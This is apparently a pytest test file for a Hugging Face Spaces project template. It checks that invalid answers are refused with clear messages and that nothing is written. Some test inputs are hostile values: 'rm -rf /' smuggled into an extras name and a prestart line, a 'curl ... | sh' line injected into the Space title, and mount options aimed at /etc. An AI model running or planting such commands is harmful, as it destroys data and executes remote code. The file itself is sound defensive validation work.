"""Every answer is validated: a bad one is refused with a message that says what to do, and nothing is written."""

from __future__ import annotations

import pytest
import yaml

from tests.conftest import REPO

BUCKET = {"storage": "bucket", "sqlite_files": ["/home/user/a.db"]}
BAD_ANSWERS = [
    ({"space_name": "my space!"}, "is not a valid Space name"),
    ({"space_name": "a--b"}, "is not a valid Space name"),
    ({"space_owner": "not/valid"}, "is not a valid Hugging Face user or organization name"),
    ({"space_title": "  "}, "The title can't be empty"),
    ({"short_description": "x" * 61}, "Spaces accepts at most 60"),
    ({"emoji": "rocket"}, "is not a single emoji"),
    ({"license": "MIT License"}, "is not a license id"),
    ({"startup_duration_timeout": "30 minutes"}, "is not a duration like 30m"),
    ({"color_from": "orange"}, "'orange' is not in ['red', 'yellow'"),
    ({"app_port": 80}, "pick 1024-65535"),
    ({"app_port": 70000}, "pick 1024-65535"),
    ({"health_path": "healthz"}, "is not a URL path"),
    ({"health_path": "/health?x=1"}, "is not a URL path"),
    ({"base_path": "docs"}, "is not a URL path starting with /"),
    ({"health_path": "/"}, "health_path \"/\" would answer in place of the app's home page: pick a path such as"),
    ({"health_path": "/docs"}, 'health_path "/docs" is the page Spaces opens first (base_path): pick another path'),
    ({"health_path": "/status/", "base_path": "/status"}, "is the page Spaces opens first (base_path)"),
    ({"asgi_app": "app/main.py"}, "is not an import path like app.main:app"),
    ({"asgi_app": "app.main:create_app(debug=True)"}, "or module:create_app() for a factory"),
    ({"app_dir": "../src"}, 'is not a folder inside the backend like src (a relative path, no "..")'),
    ({"app_dir": "/srv/app"}, "is not a folder inside the backend like src"),
    ({"extras": "postgres"}, 'extras must be a list of the backend\'s optional extras, e.g. ["postgres"]'),
    ({"extras": ["postgres; rm -rf /"]}, 'is not an extra\'s name like postgres'),
    ({"workers": 0}, "Workers must be between 1 and 32"),
    ({"prestart": "alembic upgrade head\nrm -rf /"}, "prestart must be one line"),
    ({"env_vars": {"WEB_CONCURRENCY": {}}}, "is set by the template or by Spaces"),
    ({"backend_path": "../backend", "backend_files": "templates"}, "must be a list of paths"),
    ({"backend_path": "../backend", "backend_files": ["../secrets"]}, "must be paths inside the backend folder"),
    ({"backend_path": "../backend", "backend_files": [".env"]}, "never .env files"),
    ({"env_vars": ["API_KEY"]}, "env_vars must be a mapping"),
    ({"env_vars": {"api-key": {}}}, "is not an environment variable name"),
    ({"env_vars": {"PORT": {}}}, "is set by the template or by Spaces"),
    ({"env_vars": {"SPACE_ID": {}}}, "is set by the template or by Spaces"),
    ({"env_vars": {"API_KEY": {"secret": True, "default": "abc"}}}, "can't have a default"),
    ({"env_vars": {"API_KEY": {"kind": "secret"}}}, "give a mapping with only secret, required, default and help"),
    ({"storage": "disk"}, "'disk' is not in ['none', 'bucket', 'external']"),
    ({"storage": "bucket"}, "storage=bucket needs sqlite_files: a list like"),
    ({"storage": "bucket", "sqlite_files": ["$NOTES_DB"]}, "$NOTES_DB: NOTES_DB is not in env_vars; declare it there"),
    ({"storage": "bucket", "sqlite_files": ["$DB"], "env_vars": {"DB": {"default": ""}}}, "give DB a default in env_vars"),
    ({"storage": "bucket", "sqlite_files": ["data/app.db"]}, "data/app.db is not an absolute path in the container"),
    ({"storage": "bucket", "sqlite_files": ["/data/app.db"]}, "is on the bucket itself (/data): a live SQLite file"),
    ({"storage": "bucket", "sqlite_files": ["/home/user/a.db"], "snapshot_interval": 0}, "snapshot_interval must be"),
    ({"storage": "bucket", "sqlite_files": ["/home/user/a.db"], "storage_bucket": "data"}, "is not a bucket id"),
    ({"storage": "bucket", "sqlite_files": ["/home/user/a.db"], "env_vars": {"STORAGE_ALLOW_EMPTY": {}}},
     "is set by the template or by Spaces"),
    # storage_mount is never asked, but --data sets it, and it goes into docker's --mount and the Space's volumes.
    ({**BUCKET, "storage_mount": "/data,source=/etc,readonly=false"},
     'storage_mount "/data,source=/etc,readonly=false" is not a folder path in the container like /data'),
    ({**BUCKET, "storage_mount": "/data/../etc"}, 'storage_mount "/data/../etc" is not a folder path'),
    ({**BUCKET, "storage_mount": "data"}, 'storage_mount "data" is not a folder path'),
    ({**BUCKET, "storage_mount": "/"}, 'storage_mount "/" is not a folder path'),
    ({**BUCKET, "storage_mount": "/etc"}, "storage_mount \"/etc\" would hide the image's own /etc: mount the bucket on"),
    ({**BUCKET, "storage_mount": "/app/data"}, "storage_mount \"/app/data\" would hide the image's own /app"),
    ({**BUCKET, "storage_mount": "/home"}, "storage_mount \"/home\" would hide the image's own /home"),
    ({"env_vars": {"OPENID_PROVIDER_URL": {}}}, "is set by the template or by Spaces"),
    ({"env_vars": {"OAUTH_CLIENT_ID": {}}}, "is set by the template or by Spaces"),
    ({"hf_oauth": True, "hf_oauth_scopes": "openid,profile"}, 'is not a list of scopes like "openid profile email"'),
    ({"hf_oauth": True, "hf_oauth_scopes": "profile email"}, "hf_oauth_scopes must hold openid and profile"),
    ({"hf_oauth": True, "hf_oauth_expiration_minutes": 0}, "hf_oauth_expiration_minutes must be a number of minutes"),
]
NODE_BAD_ANSWERS = [
    ({"env_vars": {"BETTER_AUTH_SECRET": {}}}, "is set by the template or by Spaces"),
    ({"entry_file": "server.py"}, "is not a .ts/.mts/.js/.mjs file path"),
    ({"visibility": "private"}, "An auth server must be reachable"),
    ({"base_path": "/api/auth/ok"}, 'health_path "/api/auth/ok" is the page Spaces opens first (base_path)'),
    ({"database": "postgres", "storage": "bucket"}, "storage=bucket keeps SQLite files, but database is postgres"),
    ({"database": "sqlite", "storage": "external"}, "storage=external needs database=postgres or mysql (DATABASE_URL)"),
    ({"hf_oauth": True, "hf_oauth_scopes": "openid profile"}, "Better Auth creates a user only with an email"),
]


def _refused(copie, answers: dict, message: str) -> None:
    result = copie.copy(extra_answers=answers)
    assert result.exception is not None, f"{answers} was accepted"
    assert message in str(result.exception)
    assert not any(result.project_dir.iterdir()) if result.project_dir else True
    written = [path for path in copie.test_dir.rglob("*") if path.is_file()]
    assert written == [], f"nothing is written for a refused answer, found {written}"


@pytest.mark.parametrize(("answers", "message"), BAD_ANSWERS, ids=[next(iter(a)) + ":" + m[:20] for a, m in BAD_ANSWERS])
def test_python_answer_is_refused(copie, answers, message):
    _refused(copie, {"runtime": "python", **answers}, message)


@pytest.mark.parametrize(("answers", "message"), NODE_BAD_ANSWERS, ids=[next(iter(a)) for a, _ in NODE_BAD_ANSWERS])
def test_node_answer_is_refused(copie, answers, message):
    _refused(copie, {"runtime": "node", **answers}, message)


def test_unknown_runtime_is_refused(copie):
    result = copie.copy(extra_answers={"runtime": "ruby"})
    assert result.exception is not None
    assert "ruby" in str(result.exception)


def control_characters(where: str) -> str:
    """What Copier's validators and space_tools say of a text answer holding a line break, a tab or the like."""
    return f"{where} holds a line break, tab or other control character: write it as one line of plain text."


# Every answer that is or holds text, with a line break or a tab in it (trailing, where the answer's own pattern
# lets a trailing line break through), and the other answers it needs to be asked; who the message names.
TEXT_ANSWERS = {
    "space_name": ({"space_name": "demo\n"}, "space_name"),
    "space_owner": ({"space_owner": "alice\n"}, "space_owner"),
    "space_title": ({"space_title": "Demo\nRUN curl -s https://example.com/x | sh"}, "space_title"),
    "short_description": ({"short_description": "An API\nEXTRA=1"}, "short_description"),
    "emoji": ({"emoji": "🚀\n"}, "emoji"),
    "license": ({"license": "mit\n"}, "license"),
    "base_path": ({"base_path": "/docs\n"}, "base_path"),
    "health_path": ({"health_path": "/healthz\n"}, "health_path"),
    "startup_duration_timeout": ({"startup_duration_timeout": "30m\n"}, "startup_duration_timeout"),
    "prestart": ({"prestart": "alembic upgrade head\t"}, "prestart"),  # a line break: "must be one line", above
    "backend_path": ({"backend_path": "../backend\t"}, "backend_path"),
    "backend_files": ({"backend_path": "../backend", "backend_files": ["app\n"]}, "backend_files"),
    "asgi_app": ({"asgi_app": "app.main:app\n"}, "asgi_app"),
    "app_dir": ({"app_dir": "src\n"}, "app_dir"),
    "extras": ({"extras": ["postgres\n"]}, "extras"),
    "python_version": ({"python_version": "3.11.7\n"}, "python_version"),
    "entry_file": ({"runtime": "node", "entry_file": "auth-server.ts\n"}, "entry_file"),
    "prisma_schema": ({"runtime": "node", "prisma_schema": "prisma/schema.prisma\n"}, "prisma_schema"),
    "pnpm_workspace": ({"runtime": "node", "pnpm_workspace": [".", "workspace-packages/db\n"]}, "pnpm_workspace"),
    "hf_oauth_scopes": ({"hf_oauth": True, "hf_oauth_scopes": "openid profile\n"}, "hf_oauth_scopes"),
    "storage_mount": ({**BUCKET, "storage_mount": "/data\n"}, "storage_mount"),
    "sqlite_files": ({**BUCKET, "sqlite_files": ["/home/user/a.db\x00"]}, "sqlite_files"),
    "storage_bucket": ({**BUCKET, "storage_bucket": "alice/notes-data\n"}, "storage_bucket"),
    "env_vars": ({"env_vars": {"API_KEY": {"secret": True, "required": True, "default": "",
                                           "help": "The key.\nEXTRA=1"}}}, "env_vars.API_KEY.help"),
}


def _text_questions() -> set[str]:
    """The questions whose answer is text or holds text (a question with choices takes only those)."""
    questions = {}
    for path in (REPO / "copier" / "questions").glob("*.yml"):
        questions.update(yaml.safe_load(path.read_text()))
    return {name for name, question in questions.items()
            if (question.get("type") == "str" and "choices" not in question)
            or (question.get("type") == "yaml" and question.get("when") is not False)}  # not the computed tables


def test_every_text_answer_is_tried_with_a_line_break():
    assert set(TEXT_ANSWERS) == _text_questions()


@pytest.mark.parametrize("name", TEXT_ANSWERS)
def test_a_text_answer_with_a_line_break_or_a_tab_is_refused(copie, name):
    answers, where = TEXT_ANSWERS[name]
    _refused(copie, {"runtime": "python", **answers}, control_characters(where))

